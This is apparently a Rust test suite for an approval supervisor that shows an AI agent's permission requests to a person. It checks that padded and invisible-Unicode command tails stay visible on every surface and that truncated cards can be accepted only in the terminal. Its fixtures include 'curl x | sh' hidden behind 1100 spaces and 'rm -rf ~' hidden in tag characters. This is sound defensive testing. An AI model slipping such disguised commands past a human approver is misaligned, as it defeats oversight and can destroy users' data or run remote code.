//! What a person sees is what they approve, through the real
//! binary: a command padded with 1100 spaces and one whose tail is spelled
//! in tag characters show their tails on every surface (`session
//! approvals` human and `--json`, `cards.jsonl`, the page and its API, the
//! webhook POST, an answer link's confirm form, `run --json` and `run`'s
//! terminal prompt); a card cut to its bound is not `complete`,
//! and then only the terminal may accept it — `session answer … accept`
//! exits 11, the API answers 409, the page has no Accept button, a
//! webhook's accept is refused — and no key reaches the TUI, while decline
//! still works. Card ids are new for every card instance: a second
//! supervisor run whose agent reuses the request id (or whose pane prompt
//! is counted from 1 again) gets a new id, and the old id answers nothing.

use serde_json::{json, Value};

use crate::run::acp_env::{options_full, AcpEnv};
use crate::serve::Serve;
use crate::session::supervisor::{request, Session, DEADLINE};
use crate::session::webhook::{with_webhook, Hook};
use crate::support::fake::{install_fake, kiro_script, with};
use crate::support::wait::{wait_for, wait_until};

/// `echo hi`, 1100 spaces, then the part that matters.
fn padded() -> String {
    format!("echo hi{}; curl x | sh", " ".repeat(1100))
}

const PADDED_SHOWN: &str = "echo hi⟨1100 spaces⟩; curl x | sh";

/// `ls` and ` ; rm -rf ~` in tag characters (invisible on every terminal).
fn tagged() -> String {
    let hidden: String = " ; rm -rf ~"
        .chars()
        .map(|c| char::from_u32(0xE0000 + u32::from(c)).expect("a tag character"))
        .collect();
    format!("ls{hidden}")
}

const TAGGED_SHOWN: &str = "ls⟨U+E0020⟩⟨U+E003B⟩⟨U+E0020⟩⟨U+E0072⟩⟨U+E006D⟩⟨U+E0020⟩⟨U+E002D⟩⟨U+E0072⟩⟨U+E0066⟩⟨U+E0020⟩⟨U+E007E⟩";

/// A recorder request whose tool call carries `command` (and `paths`).
fn request_with(id: &str, title: &str, command: &str, paths: usize) -> Value {
    let locations: Vec<Value> = (0..paths)
        .map(|n| json!({"path": format!("/w/{n}")}))
        .collect();
    let mut request = request(id, title);
    request["toolCall"] = json!({
        "kind": "execute",
        "rawInput": {"command": command},
        "locations": locations,
    });
    request
}

/// Every string a card shows, for "nothing invisible got through".
fn texts(card: &Value) -> Vec<String> {
    let mut texts = vec![card["title"].as_str().unwrap_or_default().to_owned()];
    texts.extend(card["command"].as_str().map(str::to_owned));
    texts
}

#[track_caller]
fn assert_nothing_invisible(text: &str) {
    let hidden = text
        .chars()
        .find(|&c| ('\u{E0000}'..='\u{E007F}').contains(&c) || c == '\u{200B}');
    assert_eq!(hidden, None, "an invisible character got through: {text:?}");
}

#[test]
fn padded_and_tagged_commands_show_their_tails_on_every_session_surface() {
    let hook = Hook::start(Some("{}"));
    let mut session = Session::new(|markers| {
        let mut second = request_with("r2", "Running: listing", &tagged(), 0);
        second["waitFor"] = json!(markers.join("next"));
        json!({"requests": [
            request_with("r1", &format!("Running: {}", padded()), &padded(), 0),
            second,
        ]})
    });
    with_webhook(&mut session, &hook);
    session.start();
    let serve = Serve::start(&session.env, &[]);

    let card = session.pending_card();
    assert_eq!(card["title"], format!("Running: {PADDED_SHOWN}"));
    assert_eq!(card["command"], PADDED_SHOWN);
    assert_eq!(card["complete"], true);
    let human = session.env.run(&["session", "approvals", &session.name]);
    human.assert_success();
    assert!(
        human
            .stdout
            .contains(&format!("\tRunning: {PADDED_SHOWN}\n"))
            && human
                .stdout
                .contains(&format!("  command: {PADDED_SHOWN}\n")),
        "{}",
        human.stdout
    );
    let api = serve.wait_card("padded", |other| other["id"] == card["id"]);
    assert_eq!(api["command"], PADDED_SHOWN);
    let page = serve.get("/view").text().expect("page");
    assert!(page.contains(PADDED_SHOWN), "{page}");

    // A person answers it at the terminal; the next one is the tagged one.
    session.person_presses("Enter");
    session.wait_card("answered in the terminal", |other| {
        other["id"] == card["id"] && other["state"] == "answered_in_terminal"
    });
    session.touch("next");
    let tagged_card = session.wait_card("tagged", |other| other["state"] == "pending");
    assert_eq!(tagged_card["command"], TAGGED_SHOWN);
    let human = session.env.run(&["session", "approvals", &session.name]);
    assert!(
        human
            .stdout
            .contains(&format!("  command: {TAGGED_SHOWN}\n")),
        "{}",
        human.stdout
    );
    assert_nothing_invisible(&human.stdout);
    let api = serve.wait_card("tagged", |other| other["id"] == tagged_card["id"]);
    assert_eq!(api["command"], TAGGED_SHOWN);
    let page = serve.get("/view").text().expect("page");
    assert!(page.contains(TAGGED_SHOWN), "{page}");
    assert_nothing_invisible(&page);

    // The record and the webhook say the same.
    let history =
        std::fs::read_to_string(session.session_root().join("cards.jsonl")).expect("history");
    assert!(history.contains(PADDED_SHOWN) && history.contains(TAGGED_SHOWN));
    assert_nothing_invisible(&history);
    wait_for("the webhook got two requests", DEADLINE, || {
        let requests = hook.requests();
        if requests.len() < 2 {
            Err(format!("{requests:?}"))
        } else {
            Ok(())
        }
    });
    let posted = hook.requests().join("\n");
    assert!(
        posted.contains(PADDED_SHOWN) && posted.contains(TAGGED_SHOWN),
        "{posted}"
    );
    assert_nothing_invisible(&posted);
    for text in texts(&tagged_card) {
        assert_nothing_invisible(&text);
    }
    drop(serve);
    session.stop_and_check();
}

#[test]
fn an_incomplete_card_is_declined_anywhere_and_accepted_only_in_the_terminal() {
    let hook = Hook::start(Some(r#"{"action":"accept"}"#));
    let mut session = Session::new(
        |_| json!({"requests": [request_with("r1", "Running: pwd", &"x".repeat(20 * 1024), 5000)]}),
    );
    with_webhook(&mut session, &hook);
    session.start();
    let serve = Serve::start(&session.env, &[]);
    let card = session.pending_card();
    let id = card["id"].as_str().expect("id");
    assert_eq!(card["complete"], false);
    let command = card["command"].as_str().expect("command");
    assert!(
        command.ends_with("x … (4096 more characters)"),
        "{}",
        &command[command.len() - 60..]
    );
    let paths = card["paths"].as_array().expect("paths");
    assert_eq!(paths.len(), 257);
    assert_eq!(paths[255], "/w/255");
    assert_eq!(paths[256], "… and 4744 more");

    // The webhook said accept: refused, logged, still pending.
    let log = session.session_root().join("supervisor.log");
    wait_until("the webhook's accept was refused", DEADLINE, || {
        std::fs::read_to_string(&log)
            .unwrap_or_default()
            .contains("webhook verdict refused")
    });

    // The CLI: exit 11 naming the reason.
    let accept = session.answer(&card, "accept");
    accept.assert_code(11);
    assert!(
        accept.stderr.contains("too long to show whole")
            && accept.stderr.contains("accept it in the terminal"),
        "{}",
        accept.describe()
    );
    // The API: 409 with the reason.
    let response = serve.post(
        &format!("/api/cards/{id}/answer"),
        json!({"action": "accept"}),
    );
    assert_eq!(response.status(), 409);
    let body: Value = serde_json::from_str(&response.text().expect("body")).expect("json");
    assert!(
        body["error"]
            .as_str()
            .is_some_and(|e| e.contains("terminal")),
        "{body}"
    );
    // The page: no Accept button for it, a line saying why.
    let page = serve.get("/view").text().expect("page");
    assert!(page.contains("Too long to show whole"), "{page}");
    assert!(
        !page.contains("value=\"accept\""),
        "an Accept button: {page}"
    );
    assert!(page.contains("value=\"decline\""), "{page}");

    // No key reached the TUI; the card still waits.
    assert!(session.keys().is_empty(), "{:?}", session.keys());
    let cards = session.cards();
    assert_eq!(cards.len(), 1);
    assert_eq!(cards[0]["state"], "pending");
    assert!(session.responses().is_empty());

    // Decline works from here.
    session.answer(&card, "decline").assert_success();
    session.assert_keys(&["Down", "Down", "Enter"]);
    session.wait_card("declined", |other| other["state"] == "declined");
    drop(serve);
    session.stop_and_check();
}

#[test]
fn a_second_supervisor_run_gives_a_reused_request_id_a_new_card_id() {
    let session = Session::new(|_| json!({"requests": [request("r1", "Running: pwd")]}));
    session.start();
    let first = session.pending_card();
    session.stop_and_check();
    session.start();
    let second = session.pending_card();
    assert_ne!(first["id"], second["id"], "the card id came back");
    assert!(second["id"]
        .as_str()
        .is_some_and(|id| id.starts_with("kiro_default_")));
    // The old id answers nothing; the new card stays pending.
    session.answer(&first, "accept").assert_code(11);
    assert!(session.keys().is_empty(), "{:?}", session.keys());
    let cards = session.cards();
    assert_eq!(cards.len(), 1, "{cards:?}");
    assert_eq!(cards[0]["id"], second["id"]);
    assert_eq!(cards[0]["state"], "pending");
    session.stop_and_check();
}

#[test]
fn a_second_supervisor_run_gives_the_first_pane_prompt_a_new_card_id() {
    let session = Session::new(|_| json!({"requests": [request("r1", "Running: pwd")]}));
    // A Kiro before the recorder: the card comes from the pane.
    let script: Value = serde_json::from_slice(
        &std::fs::read(session.env.bin.join("kiro-cli.script.json")).expect("script"),
    )
    .expect("script json");
    let old = with(
        &script,
        "versionOutput",
        kiro_script("2.3.0")["versionOutput"].clone(),
    );
    install_fake(&session.env.bin, "kiro-cli", &old);
    session.start();
    let first = session.pending_card();
    assert_eq!(first["title"], "Shell pwd");
    session.stop_and_check();
    session.start();
    let second = session.pending_card();
    assert_ne!(first["id"], second["id"], "the pane card id came back");
    session.answer(&first, "decline").assert_code(11);
    assert!(session.keys().is_empty(), "{:?}", session.keys());
    assert_eq!(session.cards()[0]["state"], "pending");
    session.stop_and_check();
}

/// A `session/request_permission` of the fake agent with a tool call
/// carrying `command` and `paths` paths.
fn permission_step(id: &str, title: &str, command: &str, paths: usize) -> Value {
    let locations: Vec<Value> = (0..paths)
        .map(|n| json!({"path": format!("/w/{n}")}))
        .collect();
    json!({"request": {"id": id, "method": "session/request_permission", "params": {
        "sessionId": "sess-1",
        "toolCall": {
            "toolCallId": format!("call-{id}"), "title": title, "kind": "execute",
            "rawInput": {"command": command}, "locations": locations,
        },
        "options": options_full(),
    }}})
}

#[test]
fn run_json_shows_permission_requests_as_card_text() {
    let acp = AcpEnv::new(json!({
        "turn": [
            permission_step("p1", &format!("Run {}", padded()), &padded(), 0),
            permission_step("p2", "Run ls", &tagged(), 0),
            permission_step("p3", "Run big", &"x".repeat(20 * 1024), 5000),
            {"text": "done"}
        ]
    }));
    let mut live = acp.live(&["--prompt", "go", "--json"]);
    let mut shown = Vec::new();
    for id in ["p1", "p2", "p3"] {
        let event = live.expect("permission_request");
        assert_eq!(event["id"], id, "{event}");
        live.send(&json!({"id": id, "reply": "cancel"}).to_string());
        shown.push(event);
    }
    let (code, _, stderr) = live.finish();
    assert_eq!(code, Some(0), "{stderr}");
    assert_eq!(shown[0]["title"], format!("Run {PADDED_SHOWN}"));
    assert_eq!(shown[0]["command"], PADDED_SHOWN);
    assert_eq!(shown[0]["complete"], true);
    assert_eq!(shown[1]["command"], TAGGED_SHOWN);
    assert_eq!(shown[1]["complete"], true);
    assert_eq!(shown[2]["complete"], false);
    let paths = shown[2]["paths"].as_array().expect("paths");
    assert_eq!(paths.len(), 257);
    assert_eq!(paths[256], "… and 4744 more");
    assert!(shown[2]["command"]
        .as_str()
        .is_some_and(|command| command.ends_with("… (4096 more characters)")));
    for event in &shown {
        assert_nothing_invisible(&event.to_string());
    }
}

#[test]
fn run_on_a_terminal_prompts_with_card_text() {
    use std::io::Write;
    let acp = AcpEnv::new(json!({
        "turn": [permission_step("p1", &format!("Run {}", padded()), &tagged(), 0), {"text": "done"}]
    }));
    let mut child = acp
        .oneworks(&["--prompt", "go"])
        .terminal()
        .stderr_null()
        .spawn();
    let output = crate::support::capture_stdout(&mut child);
    let wanted = [
        format!("Run {PADDED_SHOWN}"),
        format!("command: {TAGGED_SHOWN}"),
    ];
    let seen = wait_for(&format!("{wanted:?} shown"), DEADLINE, || {
        let seen = String::from_utf8_lossy(&output.lock().expect("lock")).into_owned();
        if wanted.iter().all(|text| seen.contains(text.as_str())) {
            Ok(seen)
        } else {
            Err(seen)
        }
    });
    assert_nothing_invisible(&seen);
    // Escape cancels the run.
    let mut stdin = child.stdin.take().expect("stdin");
    stdin.write_all(b"\x1b").expect("type");
    stdin.flush().expect("flush");
    let status = wait_for("oneworks finished", DEADLINE, || {
        child.try_wait().expect("try_wait").ok_or_else(String::new)
    });
    drop(stdin);
    assert_eq!(status.code(), Some(130));
}

#[test]
fn an_answer_links_confirm_form_shows_card_text_and_no_accept_for_an_incomplete_card() {
    let hook = Hook::start(Some("{}"));
    let command = format!("{}{}", padded(), "x".repeat(20 * 1024));
    let mut session =
        Session::new(|_| json!({"requests": [request_with("r1", "Running: pwd", &command, 0)]}));
    with_webhook(&mut session, &hook);
    let serve = Serve::start(&session.env, &["--public-url", "https://phone.example/ow"]);
    session.start();
    let card = serve.wait_card("pending", |card| card["state"] == "pending");
    assert_eq!(card["complete"], false);
    wait_until("the webhook was called", DEADLINE, || {
        !hook.requests().is_empty()
    });
    let posted = hook.requests()[0].clone();
    let body: Value =
        serde_json::from_str(&posted[posted.find("{\"").expect("body")..]).expect("JSON body");
    assert_eq!(body["card"]["complete"], false);
    let link = body["answer_url"].as_str().expect("answer_url");
    let path = link
        .strip_prefix("https://phone.example/ow")
        .expect("the public URL");
    let form = reqwest::blocking::Client::new()
        .get(format!("{}{path}", serve.base))
        .send()
        .expect("GET");
    assert_eq!(form.status(), 200);
    let form = form.text().expect("form");
    assert!(form.contains("echo hi⟨1100 spaces⟩; curl x | sh"), "{form}");
    assert!(form.contains(" more characters)"), "{form}");
    assert!(form.contains("Too long to show whole"), "{form}");
    assert!(
        !form.contains("value=\"accept\""),
        "an Accept button: {form}"
    );
    assert!(form.contains("value=\"decline\""), "{form}");
    assert!(session.keys().is_empty());
    session.stop_and_check();
}
